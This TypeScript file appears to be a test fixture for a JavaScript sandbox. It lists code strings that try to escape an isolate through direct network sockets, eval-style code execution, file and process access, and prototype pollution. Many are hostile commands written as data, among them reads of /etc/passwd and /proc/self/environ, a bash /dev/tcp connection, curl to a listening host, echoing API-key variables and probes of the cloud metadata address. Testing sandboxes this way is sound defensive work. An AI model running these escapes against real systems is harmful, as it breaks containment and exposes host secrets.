/**
 * Ways a program might get out of its isolate. Each is the body of an async function that can use `env`, and
 * returns `'OUT'` when it has reached what it should not. `BASE` stands for a host that listens, and so sees
 * even what gets no answer.
 */
const reaches = (...calls: string[]): string[] =>
  calls.map((call) => `const r = await (${call}); return r && r.status !== undefined ? 'OUT' : undefined;`);

const ports = [
  'BASE',
  'http://[::1]:80',
  'http://0.0.0.0:8787',
  'http://169.254.169.254',
  'https://example.com',
];

/** Network that bypasses the controlled way: other globals, saved originals, other modules, other realms. */
const network = ports.flatMap((host) => [
  ...reaches(
    `(await import('cloudflare:' + 'sockets')).connect({ hostname: new URL('${host}').hostname, port: 80 }).opened.then(() => ({ status: 1 }))`,
    `(await import('node:' + 'http')).default.get('${host}/x')[Symbol.asyncIterator]?.().next()`,
    `new Promise(async (resolve) => (await import('node:' + 'http')).default.get('${host}/x', (r) => resolve({ status: r.statusCode })).on('error', () => resolve()))`,
    `new Promise(async (resolve) => (await import('node:' + 'https')).default.get('${host}/x', (r) => resolve({ status: r.statusCode })).on('error', () => resolve()))`,
    `new Promise(async (resolve) => (await import('node:' + 'net')).default.connect(80, new URL('${host}').hostname, () => resolve({ status: 1 })).on('error', () => resolve()))`,
    `new Promise(async (resolve) => (await import('node:' + 'tls')).default.connect(443, new URL('${host}').hostname, () => resolve({ status: 1 })).on('error', () => resolve()))`,
    `new Promise((resolve) => { const s = new WebSocket('${host}/x'.replace('http', 'ws')); s.onopen = () => resolve({ status: 1 }); s.onerror = () => resolve(); })`,
    `new Promise((resolve) => { const s = new EventSource('${host}/x'); s.onopen = () => resolve({ status: 1 }); s.onerror = () => resolve(); })`,
    `new XMLHttpRequest().open('GET', '${host}/x')`,
    `navigator.sendBeacon('${host}/x') && new Promise((resolve) => setTimeout(resolve, 200))`,
    `caches.default.match('${host}/x')`,
    `caches.open('x').then((c) => c.add('${host}/x')).then(() => ({ status: 1 }))`,
    `import('' + '${host}/x.js').then(() => ({ status: 1 }))`,
    `new Worker('${host}/x.js') && { status: 1 }`,
    `env.ECHO.fetch('${host}/x')`,
    `env.FS.fetch?.('${host}/x')`,
    `env.BASH.fetch('${host}/x')`,
    `env.FETCH.fetch('${host}/x')`,
    `env.ECHO.connect('${host.replace(/^https?:\/\//, '')}:80').opened.then(() => ({ status: 1 }))`,
    `Reflect.apply(Object.getPrototypeOf(async () => {}).constructor, null, ['return fetch("${host}/x")'])()`,
  ),
]);

/** Code from strings, which would run without a guard. */
const strings = [
  `eval('1')`,
  `(0, eval)('1')`,
  `globalThis['ev' + 'al']('1')`,
  `new Function('return 1')()`,
  `Function('return 1')()`,
  `(() => {}).constructor('return 1')()`,
  `(async () => {}).constructor('return 1')()`,
  `(function* () {}).constructor('yield 1')().next()`,
  `(async function* () {}).constructor('yield 1')().next()`,
  `Reflect.construct(Function, ['return 1'])()`,
  `Object.getPrototypeOf(Object).constructor('return 1')()`,
  `[].constructor.constructor('return 1')()`,
  `import('' + 'data:text/javascript,export default 1')`,
  `import(URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' })))`,
  `(await import('node:' + 'vm')).default.runInThisContext('1')`,
  `(await import('node:' + 'vm')).default.runInNewContext('1')`,
  `new (await import('node:' + 'vm')).default.Script('1').runInThisContext()`,
  `(await import('node:' + 'module')).default.createRequire('/x')('fs').readFileSync('/etc/passwd')`,
  `(await import('node:' + 'worker_threads')).default.Worker('1', { eval: true })`,
  `new ShadowRealm().evaluate('1')`,
  `WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))`,
  `new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))`,
].map((code) => `const r = await (${code}); return r === undefined ? undefined : 'OUT';`);

/** The machine, and what belongs to the host. */
const host = [
  `return (await import('node:' + 'fs')).readFileSync('/etc/passwd', 'utf8') && 'OUT';`,
  `return (await import('node:' + 'fs')).readFileSync('/proc/self/environ', 'utf8') && 'OUT';`,
  `return (await import('node:' + 'fs')).readdirSync('/home') && 'OUT';`,
  `return (await import('node:' + 'child_process')).execSync('id') && 'OUT';`,
  `return (await import('node:' + 'child_process')).spawnSync('id').stdout && 'OUT';`,
  `return (await import('node:' + 'os')).userInfo().homedir?.startsWith('/root') && 'OUT';`,
  `return process.binding('fs').open && 'OUT';`,
  `return process.mainModule.require('fs') && 'OUT';`,
  `return process.dlopen({}, '/x') && 'OUT';`,
  `process.kill(1, 0); return 'OUT';`,
  `return require('fs') && 'OUT';`,
  `return Object.keys(process.env).some((name) => /SECRET|KEY|TOKEN|PATH|HOME/.test(name)) && 'OUT';`,
  `const { env } = await import('cloud' + 'flare:workers'); return ('HOST' in env || 'LOADER' in env || 'FETCH_LOOPBACK' in env) && 'OUT';`,
  `const { exports } = await import('cloud' + 'flare:workers'); return (exports.Runner || exports.Executor || exports.Fs) && 'OUT';`,
  `const { exports } = await import('cloud' + 'flare:workers'); return (await exports.default.run({})).ok !== undefined && 'OUT';`,
  `return (await env.ECHO.env).HOST && 'OUT';`,
  `return (await env.ECHO.ctx.props).room && 'OUT';`,
  `return (await env.ECHO.ctx.exports.Runner({}).run({})) && 'OUT';`,
  `return (await env.ECHO.constructor('return process')()) && 'OUT';`,
  `return (await env.ECHO.__proto__.constructor.name) === 'Echo' && 'OUT';`,
  `return (await env.BASH.env.HOST.call('x', 'y', { op: 'readdir', path: '/work' })) && 'OUT';`,
  `return (await env.FETCH.env.FETCH_LOOPBACK) === '1' && 'OUT';`,
  `const r = await env.BASH.exec('cat /etc/passwd /proc/self/environ'); return r.stdout !== '' && 'OUT';`,
  `const r = await env.BASH.exec('echo $ROOM_SECRET$OPENAI_API_KEY'); return r.stdout !== '\\n' && 'OUT';`,
  `const { port } = new URL('BASE'); const r = await env.BASH.exec('exec 3<>/dev/tcp/127.0.0.1/' + port + '; echo GET /tcp HTTP/1.0 >&3; echo >&3; cat <&3'); return r.stdout.includes('from the host') && 'OUT';`,
  `const r = await env.BASH.exec('curl -s BASE/x'); return r.exitCode === 0 && 'OUT';`,
  `return (await env.FS.readFile('/etc/passwd')) && 'OUT';`,
  `return (await env.FS.readFile('/work/../etc/passwd')) && 'OUT';`,
  `return (await env.FS.readFile('../../etc/passwd')) && 'OUT';`,
  `return (await env.FS.readFile(new URL('file:///etc/passwd'))) && 'OUT';`,
];

/** Prototypes, and values that travel to the host. */
const objects = [
  `Object.prototype.value = 'x'; try { const r = await env.ECHO.echo({}); return r.value === 'y' ? 'OUT' : undefined; } finally { delete Object.prototype.value; }`,
  `const r = await env.ECHO.echo(JSON.parse('{"__proto__": {"polluted": 1}}')); return ({}).polluted && 'OUT';`,
  `await env.ECHO.echo({ constructor: { prototype: { polluted: 1 } } }); return ({}).polluted && 'OUT';`,
  `let called = 0; await env.ECHO.echo({ toJSON() { called++; } }).catch(() => {}); return called && 'OUT';`,
  `let seen; const f = (x) => { seen = x; }; await env.ECHO.echo(f).catch(() => {}); return seen && 'OUT';`,
  `await env.FS.mkdir('/tmp/__proto__', { recursive: true }); return ({}).value && 'OUT';`,
  `Array.prototype.map = () => ['x']; return (await env.ECHO.ping()) === 'x' && 'OUT';`,
  `Promise.prototype.then = new Proxy(Promise.prototype.then, {}); return (await env.ECHO.ping()) !== 'pong' && 'OUT';`,
];

/** @see network */
export const escapes: readonly string[] = [...network, ...strings, ...host, ...objects];
